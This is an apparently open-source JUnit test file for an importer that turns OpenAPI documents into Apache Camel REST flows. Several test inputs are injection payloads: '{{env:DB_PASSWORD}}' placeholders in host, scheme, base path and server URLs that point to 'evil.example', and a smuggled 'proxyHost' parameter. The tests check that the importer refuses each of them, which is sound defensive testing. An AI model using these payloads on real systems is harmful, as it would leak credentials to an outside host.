// SPDX-License-Identifier: Apache-2.0
// Copyright the Bactrian authors
package dev.bactrian.importer;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bactrian.importer.report.Outcome;
import dev.bactrian.importer.report.ReportLine;
import dev.bactrian.importer.source.ImportLimits;
import dev.bactrian.importer.source.RestApis;
import dev.bactrian.importer.source.Workspace;
import dev.bactrian.importer.source.WorkspaceReader;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Which OpenAPI document the flow of a REST API gets its operations of, and what is said of it. */
class RestApiTest {
    private static final Path SOURCE = Path.of("src/test/resources/workspaces/rest/Customers");

    @TempDir Path directory;

    private Path project;

    @BeforeEach
    void copyTheWorkspace() throws IOException {
        project = directory.resolve("workspace/Customers");
        try (Stream<Path> files = Files.walk(SOURCE)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                Path copy = project.resolve(SOURCE.relativize(file).toString());
                Files.createDirectories(copy.getParent());
                Files.copy(file, copy);
            }
        }
    }

    private void base(String base) throws IOException {
        Path document = project.resolve("swagger.json");
        Files.writeString(
                document,
                Files.readString(document).replace("\"/customers/v1\"", "\"" + base + "\""));
    }

    private ReportLine input() throws IOException {
        return Importer.run(directory.resolve("workspace"), directory.resolve("project"))
                .nodes()
                .stream()
                .filter(node -> node.name().equals("HTTP Input"))
                .findFirst()
                .orElseThrow();
    }

    private String flow() throws IOException {
        return Files.readString(directory.resolve("project/flows/CustomersV1.camel.yaml"));
    }

    @Test
    void aParameterWhoseNameAnotherBeginsWithIsKept() throws IOException {
        assertThat(input().how())
                .isEqualTo("from: http-input:; RestOperations with the operations of swagger.json");
        assertThat(flow())
                .containsPattern("GET /customers listCustomers \\?maxResults \\?max @X-Trace");
    }

    @Test
    void theOnlyDocumentIsTakenWithAnotherBaseAndTheReportSaysSo() throws IOException {
        base("/internal");
        ReportLine input = input();
        assertThat(input.outcome()).isEqualTo(Outcome.CARRIED);
        assertThat(input.how())
                .endsWith(
                        "operations of swagger.json, the project's only document,"
                                + " although its paths begin with '/internal'");
        assertThat(flow()).contains("getCustomer");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "orders.yaml|openapi: 3.0.1",
                "orders.yml|'swagger': \"2.0\"",
                "orders.json|{\"openapi\":\"3.0.1\",\"servers\":[{\"url\":\"/orders\"}],\"paths\":{}}"
            },
            quoteCharacter = '~')
    void ofSeveralDocumentsNoneIsTakenThatHasAnotherBase(String name, String text)
            throws IOException {
        Files.writeString(project.resolve(name), text + "\n");
        base("/internal");
        ReportLine input = input();
        assertThat(input.outcome()).isEqualTo(Outcome.NOT_POSSIBLE);
        assertThat(input.how())
                .contains(
                        "no OpenAPI document that can be read has paths that begin with '/customers/v1'");
        assertThat(flow()).doesNotContain("RestOperations");
    }

    @Test
    void ofSeveralDocumentsThatOfTheBaseIsTaken() throws IOException {
        Files.writeString(project.resolve("orders.yaml"), "openapi: 3.0.1\n");
        assertThat(List.of(input().outcome(), flow().contains("RestOperations")))
                .containsExactly(Outcome.CARRIED, true);
    }

    @Test
    void aPathThatCamelWouldResolveIsLeftOut() throws IOException {
        Path document = project.resolve("swagger.json");
        Files.writeString(
                document, Files.readString(document).replace("{customerId}", "{{env:HOME}}"));
        assertThat(input().outcome()).isEqualTo(Outcome.CARRIED);
        assertThat(flow()).contains("listCustomers").doesNotContain("env:HOME");
    }

    /** Of each place of a document that becomes an address. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"swagger\":\"2.0\",\"host\":\"{{env:DB_PASSWORD}}.evil.example\"",
                "\"swagger\":\"2.0\",\"host\":\"a.example\",\"schemes\":[\"{{env:DB_PASSWORD}}\"]",
                "\"swagger\":\"2.0\",\"host\":\"a.example?proxyHost=evil.example&x=\"",
                "\"openapi\":\"3.0.1\",\"servers\":[{\"url\":\"http://{{env:DB_PASSWORD}}.evil.example/\"}]"
            })
    void anAddressThatCamelWouldResolveIsNone(String head) throws IOException {
        RestApis.Api api = api("{" + head + ",\"basePath\":\"/v1\",\"paths\":{}}");
        assertThat(api.server()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"swagger\":\"2.0\",\"host\":\"a.example\",\"basePath\":\"/{{env:DB_PASSWORD}}\"",
                "\"openapi\":\"3.0.1\",\"servers\":[{\"url\":\"http://a.example/{{env:DB_PASSWORD}}\"}]"
            })
    void aBaseThatCamelWouldResolveIsNone(String head) throws IOException {
        RestApis.Api api = api("{" + head + ",\"paths\":{}}");
        assertThat(List.of(api.server(), api.base())).containsExactly("http://a.example", "");
    }

    private RestApis.Api api(String text) throws IOException {
        Path workspace = Files.createDirectories(directory.resolve("one/P"));
        Files.writeString(workspace.resolve("api.json"), text);
        Workspace read = WorkspaceReader.read(workspace.getParent(), ImportLimits.DEFAULT);
        return new RestApis(read).of(read.files(".json").get(0));
    }
}
